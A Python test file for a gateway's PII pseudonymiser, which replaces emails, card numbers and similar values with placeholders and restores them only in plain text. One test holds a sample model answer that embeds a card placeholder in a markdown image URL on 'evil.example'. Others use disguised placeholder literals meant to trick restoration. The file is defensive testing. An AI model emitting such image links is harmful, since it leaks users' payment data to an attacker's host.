"""Pseudonymiser: per-request placeholders for input PII, restored in plain text only."""

from __future__ import annotations

import pytest

from secure_ai_gateway.screening.pseudonymise import MAX_PSEUDONYMISE_CHARS, Pseudonymiser, Restoration
from secure_ai_protocol.errors import PayloadTooLarge
from tests.gateway.screening.fakes import CARD, EMAIL, IBAN, PHONE, SSN

# A public address: documentation ranges such as 192.0.2.0/24 identify no one and stay as written.
PUBLIC_IP = "81.2.69.142"


def pseudonymised(*texts: str) -> tuple[str, ...]:
    return Pseudonymiser(texts).texts


def restored(pseudonyms: Pseudonymiser, answer: str) -> str:
    return pseudonyms.restore(answer, markup=()).text


def test_pii_is_replaced_by_numbered_placeholders() -> None:
    text = f"I am {EMAIL}, call {PHONE}, card {CARD}, IBAN {IBAN}, SSN {SSN}, from {PUBLIC_IP}."
    assert pseudonymised(text) == (
        "I am <EMAIL_1>, call <PHONE_1>, card <CARD_1>, IBAN <IBAN_1>, SSN <SSN_1>, from <IP_1>.",
    )


def test_the_same_value_gets_the_same_placeholder_however_it_is_written() -> None:
    text = "alice@example.com, ALICE@EXAMPLE.COM, bob@example.com, +1 415 555 0142, +14155550142"
    assert pseudonymised(text) == ("<EMAIL_1>, <EMAIL_1>, <EMAIL_2>, <PHONE_1>, <PHONE_1>",)


def test_numbering_runs_across_all_texts_of_one_request() -> None:
    # Given the e-mail in the first text and two in the second
    # Then the second text reuses the first text's placeholder for the shared value
    assert pseudonymised("alice@example.com", "bob@example.com and alice@example.com") == (
        "<EMAIL_1>",
        "<EMAIL_2> and <EMAIL_1>",
    )


def test_an_answer_is_restored_with_the_values_as_first_written() -> None:
    pseudonyms = Pseudonymiser([f"Write to {EMAIL} about card {CARD}."])
    answer = "I have drafted a note to <EMAIL_1> about <CARD_1>; <EMAIL_1> will get it."
    assert pseudonyms.texts == ("Write to <EMAIL_1> about card <CARD_1>.",)
    assert (
        restored(pseudonyms, answer) == f"I have drafted a note to {EMAIL} about {CARD}; {EMAIL} will get it."
    )


def test_restoration_reports_where_each_value_was_written() -> None:
    # Given a request with one e-mail address
    pseudonyms = Pseudonymiser([f"mail {EMAIL}"])
    # When an answer mentioning it twice is restored
    restoration = pseudonyms.restore("To <EMAIL_1>, cc <EMAIL_1>.", markup=())
    # Then the spans cover exactly the written values
    assert [restoration.text[start:end] for start, end in restoration.spans] == [EMAIL, EMAIL]


def test_a_placeholder_inside_markup_is_never_restored() -> None:
    # Given a request with a card number, and an answer putting its placeholder into an image host
    pseudonyms = Pseudonymiser([f"my card is {CARD}"])
    answer = "![x](https://<CARD_1>.evil.example/p.png) and <CARD_1>"
    # When it is restored with the image destination marked as markup
    restoration = pseudonyms.restore(answer, markup=[(5, 40)])
    # Then the card is written only in the plain-text position
    assert restoration == Restoration(
        f"![x](https://<CARD_1>.evil.example/p.png) and {CARD}",
        ((46, 46 + len(CARD)),),
    )


def test_a_placeholder_only_partly_inside_markup_is_not_restored() -> None:
    pseudonyms = Pseudonymiser([f"mail {EMAIL}"])
    assert pseudonyms.restore("see <EMAIL_1>", markup=[(0, 6)]).text == "see <EMAIL_1>"


def test_a_placeholder_the_model_invents_stays_a_placeholder() -> None:
    pseudonyms = Pseudonymiser([EMAIL])
    assert (
        restored(pseudonyms, "<EMAIL_1> and <EMAIL_7> and <PHONE_1>")
        == f"{EMAIL} and <EMAIL_7> and <PHONE_1>"
    )


def test_a_placeholder_the_caller_typed_is_never_issued_and_comes_back_unchanged() -> None:
    # Given a caller who typed the literal <EMAIL_1> as well as a real address
    pseudonyms = Pseudonymiser(["Fill in <EMAIL_1> in the template.", f"I am {EMAIL}."])
    # Then their address gets the next free number
    assert pseudonyms.texts == ("Fill in <EMAIL_1> in the template.", "I am <EMAIL_2>.")
    # And an answer echoing the literal keeps it, while the real placeholder is restored
    assert restored(pseudonyms, "Put <EMAIL_1> where <EMAIL_2> goes.") == f"Put <EMAIL_1> where {EMAIL} goes."


@pytest.mark.parametrize("literal", ["<email_1>", "<\uff25MAIL_1>", "<EMA\u200bIL_1>"])
def test_a_placeholder_the_caller_typed_in_disguise_is_not_issued_either(literal: str) -> None:
    # Given a literal a model could echo back as <EMAIL_1> (lower case, fullwidth, invisible character)
    pseudonyms = Pseudonymiser([f"{literal} and {EMAIL}"])
    # Then the real address does not get <EMAIL_1>
    assert pseudonyms.texts == (f"{literal} and <EMAIL_2>",)


def test_one_requests_placeholders_never_restore_another_requests_values() -> None:
    # Given two requests that both produced <EMAIL_1>
    first = Pseudonymiser(["alice@example.com"])
    second = Pseudonymiser(["mallory@example.org"])
    # When each restores the same answer
    # Then each sees only its own value
    assert restored(first, "to <EMAIL_1>") == "to alice@example.com"
    assert restored(second, "to <EMAIL_1>") == "to mallory@example.org"


def test_a_request_without_pii_restores_nothing() -> None:
    assert Pseudonymiser(["no personal data"]).restore("to <EMAIL_1>", markup=()) == Restoration(
        "to <EMAIL_1>", ()
    )


def test_only_the_chosen_types_are_pseudonymised() -> None:
    assert Pseudonymiser([f"{EMAIL} {PHONE}"], types={"email"}).texts == (f"<EMAIL_1> {PHONE}",)


def test_a_value_hidden_with_zero_width_characters_is_replaced_whole() -> None:
    pseudonyms = Pseudonymiser(["mail ali\u200bce@example.com!"])
    assert pseudonyms.texts == ("mail <EMAIL_1>!",)
    assert restored(pseudonyms, "<EMAIL_1>") == "ali\u200bce@example.com"


def test_restoring_copes_with_text_that_is_not_valid_unicode() -> None:
    pseudonyms = Pseudonymiser([EMAIL])
    assert restored(pseudonyms, "\ud800 <EMAIL_1> \u00e9") == f"\ud800 {EMAIL} \u00e9"


def test_oversized_input_is_refused_across_all_texts() -> None:
    half = "a" * (MAX_PSEUDONYMISE_CHARS // 2 + 1)
    with pytest.raises(PayloadTooLarge):
        Pseudonymiser([half, half])
